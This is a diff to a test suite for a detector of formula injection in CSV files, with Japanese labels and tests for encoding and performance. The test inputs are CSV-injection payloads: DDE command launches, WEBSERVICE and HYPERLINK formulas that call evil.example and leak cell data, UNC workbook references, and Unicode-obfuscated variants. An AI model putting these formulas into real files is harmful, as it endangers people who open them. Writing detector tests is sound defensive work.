@@ -133,9 +133,38 @@ describe('tables', () => {
     ["品目,金額\n=cmd|' /C calc'!A0,1\n", ['formula']],
     ['"=HYPERLINK(""http://evil.example/?""&A1,""ここ"")"\n', ['formula']],
     ['＠SUM(1)*cmd|a\n', ['formula']],
+    ['"=IF(1,WEBSERVICE(""http://evil.example""),0)"\n', ['formula']],
+    ['=IF(1;WEBSERVICE("x"))\n', ['formula']],
+    ['a\t"=SUM(1,\n2,DDE(""cmd""))"', ['formula']],
+    ['\u200B=WEBSERVICE("x")', ['formula']],
+    ['﹦WEBSERVICE("x")', ['formula']],
+    ['−WEBSERVICE  ("x")', ['formula']],
+    ['=\u0338X(WEBSERVICE("x"))', ['formula']],
+    ["='\\\\evil.example\\a\\[b.xlsx]S'!A1", ['formula']],
+    ["='[b.xlsx]S'!A1", ['formula']],
+    ['" =閉じない引用\n=cmd|a', ['formula']],
+    ['"閉じない引用\n=cmd|a', ['formula']],
     ['品目,金額\n=SUM(A1:A2),-100\n+81-59-000-0000,a|b\n', []],
+    ['-,"webservice (説明)",https://example.jp\n"=SUM(A1,A2)",a://b\n', []],
   ])('%j', async (text, warnings) => {
     expect(await warningsOf(Buffer.from(text), 'a.csv')).toEqual(warnings);
     expect(await refusal('a.csv', Buffer.from(text))).toBeNull();
   });
+
+  it('in the encodings that programs of this country write', async () => {
+    const wide = Buffer.from('\uFEFF品目,=WEBSERVICE("x")', 'utf16le');
+    const windows = Buffer.concat([
+      Buffer.from([0x95, 0x69, 0x2c, 0x81, 0x81]),
+      Buffer.from('WEBSERVICE("x")'),
+    ]);
+    for (const bytes of [wide, windows]) {
+      expect(await warningsOf(bytes, 'a.csv')).toEqual(['formula']);
+    }
+  });
+
+  it('in time that grows with their length', async () => {
+    for (const piece of ['"', '""', '",', '"=', '=a|', 'call ', '=call', ']', '"\n', '=[x]']) {
+      await warningsOf(Buffer.from(`=1${piece.repeat(1_000_000 / piece.length)}`), 'a.csv');
+    }
+  }, 10_000);
 });
